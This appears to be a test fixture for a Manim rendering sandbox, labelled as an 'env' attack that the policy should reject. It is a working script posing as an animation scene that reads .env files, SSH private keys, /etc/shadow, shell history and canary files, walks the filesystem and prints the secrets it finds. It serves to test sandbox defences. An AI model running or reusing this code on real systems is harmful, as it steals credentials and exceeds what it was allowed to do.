# category: env
# attack: read the host's .env, secret files under the repo, /root, /tmp, /var/tmp, the data dir, sibling job dirs; a bounded walk of /, /work and /root printing anything that looks like a canary
# expect: any
# policy: reject
import glob
import os
import stat

from manim import *

SECRET_FILES = HOSTILE_SECRET_FILES
REPO = HOSTILE_REPO


def read_regular(path, limit):
    """Read a regular file only: /proc/kmsg, FIFOs and devices would block."""
    if path.startswith(("/proc", "/sys", "/dev")) or "/../proc" in path or "/../dev" in path:
        raise PermissionError("skipped")
    if not stat.S_ISREG(os.stat(path).st_mode):
        raise IsADirectoryError("not a regular file")
    with open(path, errors="replace") as f:
        return f.read(limit)


class HostFiles(Scene):
    def construct(self):
        candidates = list(SECRET_FILES) + [REPO + "/.env", "/root/.env", "/root/.bash_history",
                                           "/root/.ssh/id_rsa", "/etc/shadow", "/job/../.env"]
        for pattern in ("/tmp/chalk-canary-*/*", "/var/tmp/chalk-canary-*/*", "/root/chalk-canary-*/*",
                        REPO + "/.chalk-canary-*/*", REPO + "/.chalk-canary-*/.env", "/job/../*/*", "/job/../../*/*"):
            candidates += glob.glob(pattern)
        for path in candidates:
            try:
                print("READ", path, read_regular(path, 4000))
            except OSError as exc:
                print("read", path, type(exc).__name__)
        seen = 0
        import time

        deadline = time.monotonic() + 3
        for top in ("/", "/work", "/root", "/job/.."):
            for dirpath, dirnames, filenames in os.walk(top):
                if time.monotonic() > deadline:
                    break
                dirnames[:] = [d for d in dirnames if d not in ("proc", "usr", "sys", ".pyenv", ".venv", "dev")]
                if dirpath.count("/") > 3:
                    dirnames[:] = []
                for name in filenames:
                    seen += 1
                    if "canary" in dirpath or name in ("secret.txt", ".env"):
                        try:
                            print("FOUND", dirpath, name, read_regular(os.path.join(dirpath, name), 2000))
                        except OSError:
                            pass
                if seen > 5000:
                    break
        self.play(FadeIn(Square()), run_time=0.3)
